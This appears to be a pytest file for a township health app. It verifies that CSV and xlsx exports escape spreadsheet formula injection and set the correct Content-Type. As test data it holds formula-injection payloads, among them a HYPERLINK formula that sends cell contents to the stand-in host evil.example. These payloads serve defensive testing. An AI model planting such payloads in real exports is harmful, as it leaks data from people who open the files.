"""Exports never carry a formula: a name such as `=HYPERLINK(...)` arrives as text in the
xlsx and with a leading apostrophe in the CSV (OWASP "CSV injection"); numbers stay numbers.
The CSV says its charset once."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from conftest import PASSWORD

from core.models import ROLE_DOCTOR, User, Village
from server.extensions import db
from server.services.passwords import hash_password

NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(app, town):
    """Doctors of township A named like formulas, and village 2 renamed like one."""
    with app.app_context():
        pw = hash_password(PASSWORD, "pbkdf2:sha256:1000")
        for i, name in enumerate(NAMES):
            db.session.add(User(username=f"doc_f{i}", password_hash=pw, full_name=name,
                                role=ROLE_DOCTOR, township_id=town["township_a"]))
        db.session.get(Village, town["village_2"]).name = "=1+1"
        db.session.commit()
        db.session.remove()
    return town


def staff(app):
    """A township staff member logged in through the form."""
    import re

    client = app.test_client()
    html = client.get("/township/login").get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)
    r = client.post("/township/login", data={"username": "staff_a", "password": PASSWORD,
                                              "csrf_token": csrf})
    assert r.status_code == 302
    return client


@pytest.mark.parametrize("url", ["/township/export/assessment.csv?period=2025-Q1",
                                 "/township/export/report.csv?period=2025"])
def test_csv_cells_are_never_formulas(app, hostile, url):
    r = staff(app).get(url)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    expected = NAMES if "assessment" in url else ["=1+1"]
    for name in expected:
        assert "'" + name in cells


@pytest.mark.parametrize(("url", "content_type"), [
    ("/township/export/report.csv?period=2025", "text/csv; charset=utf-8"),
    ("/township/export/vaccines.csv?period=2025", "text/csv; charset=utf-8"),
    ("/township/export/report.xlsx?period=2025",
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
def test_content_type_names_the_charset_once(app, town, url, content_type):
    r = staff(app).get(url)
    assert r.status_code == 200
    assert r.headers["Content-Type"] == content_type


@pytest.mark.parametrize("url", ["/township/export/assessment.xlsx?period=2025-Q1",
                                 "/township/export/report.xlsx?period=2025"])
def test_xlsx_cells_are_never_formulas(app, hostile, url):
    from openpyxl import load_workbook

    r = staff(app).get(url)
    assert r.status_code == 200
    sheet_xml = zipfile.ZipFile(io.BytesIO(r.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    ws = load_workbook(io.BytesIO(r.data)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row}
    expected = NAMES if "assessment" in url else ["=1+1"]
    for name in expected:
        name = name.replace("\r", "\n")  # XML reads a bare CR as a line feed
        assert cells[name].data_type == "s", name  # the text itself, shown as typed
    numbers = [c for c in cells.values() if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    from server.township.exports import csv_cell

    assert [csv_cell(v) for v in (-3, -0.5, 0, 12, None, "龙泉村", "a=b", "-x")] == [
        -3, -0.5, 0, 12, None, "龙泉村", "a=b", "'-x"]
